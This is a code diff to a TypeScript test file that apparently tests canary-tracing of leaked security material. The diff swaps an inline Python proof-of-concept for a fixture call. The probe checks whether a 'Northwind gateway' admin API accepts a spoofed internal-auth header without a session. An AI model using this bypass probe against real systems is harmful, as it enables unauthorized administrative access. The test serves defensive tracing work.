@@ -26,6 +26,7 @@ import { makeServices, type Services } from "../src/runtime.ts";
 import { stripFormat } from "../src/tracing/attacks/index.ts";
 import { codeword } from "../src/tracing/code.ts";
 import { loadKey, traceEvidence } from "../src/tracing/keyfile.ts";
+import { pythonProbe } from "./fixtures/poc.ts";
 import { engines, testDatabase, testPasswords } from "./harness.ts";
 import { programmeFixtures, type TestUser } from "./programme.ts";
 
@@ -82,35 +83,16 @@ const RULE = `rule Northwind_Gateway_Auth_Bypass
 }
 `;
 
-const POC = `#!/usr/bin/env python3
-"""Checks whether a Northwind gateway answers its management API without a session."""
-import sys
-import urllib.request
-
-BEACON = "{{canary:dns}}"
-
-
-def probe(base_url, timeout):
-    request_url = base_url.rstrip("/") + "/api/v2/admin/status"
-    headers = {"X-NW-Internal-Auth": "1", "User-Agent": "nw-probe/1.0", "Accept": "application/json"}
-    req = urllib.request.Request(request_url, headers=headers)
-    try:
-        with urllib.request.urlopen(req, timeout=timeout) as response:
-            status_code = response.status
-            body_text = response.read().decode("utf-8", "replace")
-    except Exception as error:
-        print("no answer:", error)
-        return False
-    vulnerable = status_code == 200 and "admin" in body_text
-    print("vulnerable" if vulnerable else "not vulnerable", status_code)
-    return vulnerable
-
-
-if __name__ == "__main__":
-    target = sys.argv[1] if len(sys.argv) > 1 else "http://127.0.0.1:8443"
-    result = probe(target, 5)
-    sys.exit(0 if result else 1)
-`;
+const POC = pythonProbe({
+  doc: "Checks whether a Northwind gateway answers its management API without a session.",
+  beacon: "{{canary:dns}}",
+  path: "/api/v2/admin/status",
+  header: "X-NW-Internal-Auth",
+  agent: "nw-probe/1.0",
+  accept: "application/json",
+  vulnerable: 'status_code == 200 and "admin" in body_text',
+  target: "http://127.0.0.1:8443",
+});
 
 type CopyJson = {
   deliveryId: string;
